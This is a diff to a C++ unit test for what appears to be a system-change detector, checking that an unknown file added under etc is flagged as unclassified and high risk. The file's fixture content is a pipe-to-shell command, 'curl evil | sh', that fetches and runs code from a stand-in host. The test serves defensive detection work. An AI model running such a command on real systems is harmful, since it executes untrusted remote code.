@@ -11,9 +11,9 @@ TEST_CASE("a file nobody knows is unclassified and high") {
     Pair pair;
     const auto before = plain_machine();
     auto after = before;
-    after.etc["profile"] = "curl evil | sh\n";
+    after.etc["oddity"] = "curl evil | sh\n";
     const auto found = pair.compare(before, after);
-    CHECK(names(found) == std::vector<std::string>{"unclassified/unclassified_added etc/profile"});
+    CHECK(names(found) == std::vector<std::string>{"unclassified/unclassified_added etc/oddity"});
     CHECK(found.effects.front().risk == Risk::high);
 }
 
